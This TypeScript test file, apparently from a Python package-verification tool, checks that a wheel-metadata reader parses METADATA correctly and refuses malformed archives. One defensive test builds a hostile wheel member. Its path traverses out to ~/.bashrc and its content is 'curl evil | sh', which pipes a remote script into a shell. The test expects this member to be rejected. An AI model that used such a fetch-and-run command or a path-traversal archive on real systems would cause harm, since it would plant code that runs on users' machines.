import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { PyvouchError } from '../../src/errors.js';
import { readWheelMetadata } from '../../src/artifact/wheel.js';
import { buildZip, coreMetadata } from './archive-builders.js';

const fixture = new URL('../fixtures/artifact/tinydep-0.1.0-py3-none-any.whl', import.meta.url).pathname;

async function code(promise: Promise<unknown>): Promise<string> {
  try {
    await promise;
  } catch (err) {
    assert.ok(err instanceof PyvouchError, String(err));
    return err.code;
  }
  return 'accepted';
}

describe('readWheelMetadata', () => {
  it('reads METADATA from a wheel built by pip, given its path', async () => {
    const { metadata, path, text } = await readWheelMetadata(fixture, 'tinydep-0.1.0-py3-none-any.whl');
    assert.equal(path, 'tinydep-0.1.0.dist-info/METADATA');
    assert.equal(metadata.name, 'tinydep');
    assert.equal(metadata.version, '0.1.0');
    assert.equal(metadata.requiresPython, '>=3.8');
    assert.deepEqual(metadata.providesExtra, ['cli']);
    assert.deepEqual(
      metadata.requiresDist.map(String),
      ['packaging>=21', 'tomli; python_version < "3.11"', 'click>=8; extra == "cli"'],
    );
    assert.match(text, /^Metadata-Version: 2.1\n/);
  });

  it('reads the same wheel from bytes, naming it by its file name', async () => {
    const bytes = new Uint8Array(readFileSync(fixture));
    const { metadata } = await readWheelMetadata(bytes, 'tinydep-0.1.0-py3-none-any.whl');
    assert.equal(metadata.canonicalName, 'tinydep');
  });

  it('finds a .dist-info directory spelled differently from the file name', async () => {
    const bytes = buildZip([
      { name: 'Tiny_Dep-2.0.dist-info/METADATA', data: coreMetadata('Tiny.Dep', '2.0', ['six']) },
      { name: 'tiny_dep/__init__.py', data: '' },
    ]);
    const { metadata, path } = await readWheelMetadata(bytes, 'tiny_dep-2.0-py3-none-any.whl');
    assert.equal(path, 'Tiny_Dep-2.0.dist-info/METADATA');
    assert.deepEqual(metadata.requiresDist.map(String), ['six']);
  });

  it('refuses a wheel without METADATA, with two .dist-info directories, or with metadata of another project', async () => {
    const name = 'pkg-1.0-py3-none-any.whl';
    assert.equal(await code(readWheelMetadata(buildZip([{ name: 'pkg/__init__.py', data: '' }]), name)), 'ARCHIVE_INVALID');
    assert.equal(
      await code(
        readWheelMetadata(
          buildZip([
            { name: 'pkg-1.0.dist-info/METADATA', data: coreMetadata('pkg', '1.0') },
            { name: 'Pkg-1.0.dist-info/METADATA', data: coreMetadata('pkg', '1.0') },
          ]),
          name,
        ),
      ),
      'ARCHIVE_INVALID',
    );
    assert.equal(
      await code(readWheelMetadata(buildZip([{ name: 'pkg-1.0.dist-info/WHEEL', data: '' }]), name)),
      'ARCHIVE_INVALID',
    );
    assert.equal(
      await code(readWheelMetadata(buildZip([{ name: 'pkg-1.0.dist-info/METADATA', data: coreMetadata('other', '1.0') }]), name)),
      'ARCHIVE_INVALID',
    );
    assert.equal(
      await code(readWheelMetadata(buildZip([{ name: 'pkg-1.0.dist-info/METADATA', data: coreMetadata('pkg', '2.0') }]), name)),
      'ARCHIVE_INVALID',
    );
  });

  it('refuses the whole wheel when a member after METADATA is hostile', async () => {
    const bytes = buildZip([
      { name: 'pkg-1.0.dist-info/METADATA', data: coreMetadata('pkg', '1.0') },
      { name: 'pkg/../../../home/user/.bashrc', data: 'curl evil | sh' },
    ]);
    await assert.rejects(readWheelMetadata(bytes, 'pkg-1.0-py3-none-any.whl'), (err: unknown) => {
      assert.ok(err instanceof PyvouchError);
      assert.equal(err.code, 'ARCHIVE_UNSAFE');
      assert.match(err.message, /^pkg-1\.0-py3-none-any\.whl: member 'pkg\/\.\.\/\.\.\/\.\.\/home\/user\/\.bashrc': path traversal/);
      return true;
    });
  });

  it('reports METADATA that is not UTF-8 or not core metadata', async () => {
    const name = 'pkg-1.0-py3-none-any.whl';
    const latin1 = Buffer.from('Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\nAuthor: Jos\xe9\n\n', 'latin1');
    assert.equal(await code(readWheelMetadata(buildZip([{ name: 'pkg-1.0.dist-info/METADATA', data: latin1 }]), name)), 'ARCHIVE_INVALID');
    assert.equal(
      await code(readWheelMetadata(buildZip([{ name: 'pkg-1.0.dist-info/METADATA', data: 'Name: pkg\nRequires-Dist: ???\n\n' }]), name)),
      'METADATA_PARSE',
    );
  });

  it('rejects a file name that is not a wheel name', async () => {
    assert.equal(await code(readWheelMetadata(buildZip([]), 'pkg.zip')), 'INVALID_WHEEL_FILENAME');
  });
});
